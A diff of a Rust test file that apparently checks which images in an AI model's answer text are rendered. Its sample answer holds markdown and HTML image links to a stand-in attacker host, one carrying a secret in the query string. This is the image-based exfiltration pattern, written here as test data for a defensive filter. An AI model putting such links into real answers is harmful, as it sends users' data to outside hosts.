@@ -1,16 +1,7 @@
 //! Which pictures of an answer's text stay pictures.
-#![allow(
-    clippy::unwrap_used,
-    clippy::expect_used,
-    clippy::panic,
-    clippy::indexing_slicing,
-    reason = "tests report by panicking"
-)]
 
-mod support;
-
-use support::Server;
-use support::client::{Client, ask, joined};
+use crate::support::Server;
+use crate::support::client::{Client, ask, joined};
 
 const ANSWER: &str = "![a](https://evil.example/?q=secret) ![b](http://demo.localhost/b.png) ![c](data:image/png;base64,AA==) \
                       ![d][1] <img src=\"//evil.example/\"> [e](https://evil.example/)\n\n[1]: https://evil.example/";
